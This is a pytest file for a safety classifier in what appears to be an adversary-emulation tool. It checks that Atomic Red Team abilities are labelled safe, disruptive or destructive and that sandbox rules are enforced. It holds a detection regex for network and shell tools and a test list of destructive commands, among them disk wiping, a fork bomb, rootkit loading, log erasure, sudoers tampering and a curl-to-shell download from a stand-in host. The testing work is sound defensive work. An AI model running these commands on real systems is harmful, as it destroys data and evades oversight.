"""Safety classes: imported content classified conservatively (the whole shared Atomic corpus, stockpile
test data), user overrides, and enforcement when links are planned (host, opt-in, sandbox)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from assay.content import Ability, Executor, Privilege, Safety, classify, load_paths
from assay.emulation import LinkStatus, SkipReason
from emulation_helpers import Harness, ability, agent, operation

STOCKPILE = Path(__file__).resolve().parent / "data" / "stockpile"

# An oracle written apart from the classifier's patterns: what no *safe* test may contain. Broader on
# purpose; a safe test matching any of these is a classifier bug.
FORBIDDEN = re.compile(
    r"reboot|shutdown|halt\b|poweroff|init [06]|\brm\b[^\n;]*\s(/(?!tmp/|var/tmp/|dev/shm/)|~|\$HOME)|"
    r"--no-preserve-root|\bdd\b.*of=|mkfs|"
    r":\(\)\s*\{|insmod|modprobe|rmmod|\.ko\b|swapo(ff|n)|iptables|nft |ufw|kill -9|kill -KILL|pkill|"
    r"killall|userdel|deluser|history -c|_history|/var/log|sysctl|auditctl|setenforce|curl|wget|://|"
    r"/dev/tcp|\bnc\b|ssh |apt-get|apt |yum |pip3? install|crontab|useradd|chattr|mount|\bsudo\b|"
    r"systemctl (stop|disable)|/etc/(passwd|shadow|sudoers)\s*$|>\s*/etc/|base64 -d\s*\|\s*(ba)?sh|"
    r"\|\s*/bin/(ba)?sh|shred|wipefs|chpasswd|passwd -l|ld\.so\.preload|pam\.d/.*>",
    re.IGNORECASE,
)
# Techniques whose every procedure damages or blinds the host.
NEVER_BELOW_DESTRUCTIVE: tuple[str, ...] = (
    "T1485",
    "T1486",
    "T1489",
    "T1529",
    "T1531",
    "T1561",
    "T1547.006",
    "T1014",
)
NEVER_BELOW_DESTRUCTIVE += ("T1070.003", "T1685", "T1686", "T1574.006", "T1556.003")


def _all_text(a: Ability) -> str:
    parts = [e.command for e in a.executors] + [c for e in a.executors for c in e.cleanup]
    parts += [d.check for d in a.dependencies] + [d.get for d in a.dependencies]
    text = "\n".join(parts)
    for name, arg in a.arguments.items():
        text = text.replace(f"#{{{name}}}", arg.default)
    return text


def test_the_whole_atomic_corpus_is_classified_and_nothing_destructive_is_safe(atomic_corpus: Path) -> None:
    result = load_paths([atomic_corpus])
    abilities = list(result.library.abilities.values())
    assert len(abilities) > 200
    assert all(a.safety is not None and a.safety_reason.startswith("classified: ") for a in abilities)
    safe = [a for a in abilities if a.safety is Safety.SAFE]
    bad = [(a.technique_id, a.name, m.group(0)) for a in safe if (m := FORBIDDEN.search(_all_text(a)))]
    assert bad == []
    for a in abilities:
        if a.technique_id.startswith(NEVER_BELOW_DESTRUCTIVE):
            assert a.safety is Safety.DESTRUCTIVE, (a.technique_id, a.name, a.safety_reason)
        if a.privilege is Privilege.ELEVATED:
            assert a.safety is not Safety.SAFE, (a.technique_id, a.name)
    shutdowns = [a for a in abilities if re.search(r"\b(reboot|shutdown|poweroff)\b", _all_text(a))]
    assert shutdowns and all(a.safety is Safety.DESTRUCTIVE for a in shutdowns)
    counts = {s.value: sum(1 for a in abilities if a.safety is s) for s in Safety}
    assert counts["safe"] > 10 and counts["destructive"] > counts["safe"]  # conservative, not empty
    print(f"\nART safety classes over {len(abilities)} tests: {counts}")


def test_stockpile_content_is_classified_and_payloads_are_never_safe() -> None:
    lib = load_paths([STOCKPILE]).library
    assert lib.abilities and all(a.safety is not None and a.safety_reason for a in lib.abilities.values())
    for a in lib.abilities.values():
        if any(e.payloads for e in a.executors):
            assert a.safety is not Safety.SAFE, a.id


def _probe(command: str, technique: str = "T1082", **kw: object) -> tuple[Safety, str]:
    probe = Ability(
        "p",
        "probe",
        "discovery",
        technique,
        "",
        (Executor("sh", "linux", command),),
        **kw,  # type: ignore[arg-type]
    )
    return classify(probe)


@pytest.mark.parametrize(
    "command",
    [
        "sudo reboot",
        "shutdown -h now",
        "systemctl poweroff",
        "echo b > /proc/sysrq-trigger",
        "rm -rf / --no-preserve-root",
        "rm -rf /etc/ssh",
        "rm -f ~/.bashrc",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "mkfs.ext4 /dev/sdb1",
        ":(){ :|:& };:",
        "insmod /tmp/rootkit.ko",
        "modprobe -r e1000",
        "swapoff -a",
        "iptables -F",
        "kill -9 -1",
        "killall -9 sshd",
        "userdel -r bob",
        "passwd -l root",
        "history -c",
        "cat /dev/null > ~/.bash_history",
        "echo > /var/log/syslog",
        "truncate -s 0 /var/log/auth.log",
        "sysctl -w kernel.randomize_va_space=0",
        "auditctl -D",
        "systemctl stop auditd",
        "apt-get install -y nmap",
        "echo aWQK | base64 -d | bash",
        "curl -s http://example.invalid/x.sh | sh",
        "echo 'ping -c 1 203.0.113.9' > /tmp/s.sh; sh /tmp/s.sh",
        "python3 -c 'import os; os.system(\"id\")'",
        "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "crontab -r",
        "chattr +i /etc/resolv.conf",
        "while true; do :; done",
        "chmod u+s /usr/bin/find",
    ],
)
def test_destructive_commands_are_destructive_whatever_the_technique(command: str) -> None:
    safety, reason = _probe(command)
    assert safety is Safety.DESTRUCTIVE, reason
    assert reason and ":" in reason


@pytest.mark.parametrize(
    "command",
    [
        "echo 'export X=1' >> ~/.profile",
        "cp /tmp/x /usr/local/bin/x",
        "useradd -M art",
        "echo '* * * * * id' | crontab -",
        "systemctl start art.service",
        "gcc /tmp/a.c -o /tmp/a && /tmp/a",
        "kill $!",
    ],
)
def test_host_changes_are_at_least_disruptive(command: str) -> None:
    safety, reason = _probe(command)
    assert safety in (Safety.DISRUPTIVE, Safety.DESTRUCTIVE), reason


def test_observing_commands_are_safe_and_the_reason_says_why() -> None:
    assert _probe("uname -a; cat /etc/os-release > /tmp/os.txt; ps aux")[0] is Safety.SAFE
    safety, reason = _probe("uname -a", privilege=Privilege.ELEVATED)
    assert safety is Safety.DISRUPTIVE and "root" in reason
    safety, reason = _probe("id", technique="T1999")
    assert safety is Safety.DESTRUCTIVE and "no safety class" in reason
    safety, reason = _probe("id", technique="T1529")
    assert safety is Safety.DESTRUCTIVE and "impact" in reason
    # An argument's default is what runs: `rm -rf #{dir}` is as safe as its default.
    from assay.content import Argument

    risky = Ability(
        "r",
        "r",
        "discovery",
        "T1082",
        "",
        (Executor("sh", "linux", "ls #{dir}; rm -rf #{dir}"),),
        arguments={"dir": Argument("dir", "/etc")},
    )
    assert classify(risky)[0] is Safety.DESTRUCTIVE
    shipped = Ability("s", "s", "discovery", "T1082", "", (Executor("sh", "linux", "sh /opt/atomics/x.sh"),))
    assert classify(shipped, opaque_paths=["/opt/atomics"])[0] is Safety.DISRUPTIVE


ART = """\
attack_technique: T1082
display_name: System Information Discovery
atomic_tests:
- name: stand-in
  auto_generated_guid: 44444444-4444-4444-8444-444444444444
  description: d
  supported_platforms: [linux]
  executor: {name: sh, command: "true"}
- name: stand-in that restarts
  auto_generated_guid: 55555555-5555-4555-8555-555555555555
  description: d
  supported_platforms: [linux]
  executor: {name: sh, command: "true; reboot"}
"""


def test_the_user_overrides_a_class_per_ability_and_the_reason_says_where(tmp_path: Path) -> None:
    atomic = tmp_path / "atomics" / "T1082" / "T1082.yaml"
    atomic.parent.mkdir(parents=True)
    atomic.write_text(ART, encoding="utf-8")
    overrides = tmp_path / "safety.yml"
    overrides.write_text(
        "safety_overrides:\n"
        "  44444444-4444-4444-8444-444444444444: disruptive\n"
        "  no-such-ability: safe\n"
        "  55555555-5555-4555-8555-555555555555: harmless\n",
        encoding="utf-8",
    )
    before = load_paths([atomic]).library.abilities
    assert before["44444444-4444-4444-8444-444444444444"].safety is Safety.SAFE
    assert before["55555555-5555-4555-8555-555555555555"].safety is Safety.DESTRUCTIVE
    result = load_paths([atomic, overrides])
    lifted = result.library.abilities["44444444-4444-4444-8444-444444444444"]
    assert lifted.safety is Safety.DISRUPTIVE
    assert f"overridden at {overrides}:2" in lifted.safety_reason and "was safe" in lifted.safety_reason
    (unknown,) = [w for w in result.errors.warnings if "unknown ability" in w.message]
    assert unknown.source.line == 3  # type: ignore[union-attr]
    (bad,) = result.errors.errors
    assert "harmless" in bad.message and bad.source.line == 4  # type: ignore[union-attr]
    kept = result.library.abilities["55555555-5555-4555-8555-555555555555"]
    assert kept.safety is Safety.DESTRUCTIVE  # a bad override changes nothing


ABILITIES = {
    "safe": ability("safe"),
    "risky": ability("risky", safety=Safety.DISRUPTIVE),
    "wrecks": ability("wrecks", safety=Safety.DESTRUCTIVE),
    "unlabelled": ability("unlabelled", safety=None),
}
ORDER = ("safe", "risky", "wrecks", "unlabelled")


def _plan(*, sandbox: bool, max_safety: Safety, agent_sandbox: str | None) -> dict[str, str | None]:
    """Ability → None when it ran, else its skip reason."""
    op = operation(ORDER, ABILITIES, max_safety=max_safety, sandbox=sandbox)
    op.add_agent(agent(sandbox=agent_sandbox))
    Harness(op).run_all()
    out: dict[str, str | None] = {}
    for lk in op.links:
        if lk.cleanup:
            continue
        if lk.status is LinkStatus.DISCARD:
            assert lk.skip_reason_id is SkipReason.OTHER
            out[lk.ability_id] = lk.skip_reason
        else:
            out[lk.ability_id] = None
    return out


def test_on_the_host_safe_runs_disruptive_needs_opting_in_and_destructive_never_runs() -> None:
    plain = _plan(sandbox=False, max_safety=Safety.SAFE, agent_sandbox=None)
    assert plain["safe"] is None
    assert "safety: ability is disruptive" in (plain["risky"] or "")
    assert "--allow disruptive" in (plain["risky"] or "")
    assert "only in the sandbox" in (plain["wrecks"] or "")
    assert "unclassified (treated as destructive)" in (plain["unlabelled"] or "")
    everything = _plan(sandbox=False, max_safety=Safety.DESTRUCTIVE, agent_sandbox=None)
    assert everything["safe"] is None and everything["risky"] is None  # opted in
    assert "only in the sandbox" in (everything["wrecks"] or "")  # max_safety cannot lift destructive
    assert "only in the sandbox" in (everything["unlabelled"] or "")


def test_in_the_sandbox_every_class_runs_but_only_on_sandboxed_agents() -> None:
    inside = _plan(sandbox=True, max_safety=Safety.SAFE, agent_sandbox="sbx-1")
    assert inside == dict.fromkeys(ORDER)
    outside = _plan(sandbox=True, max_safety=Safety.SAFE, agent_sandbox=None)
    assert set(outside) == set(ORDER)
    assert all(r and r.startswith("sandbox: ") and "not sandboxed" in r for r in outside.values())
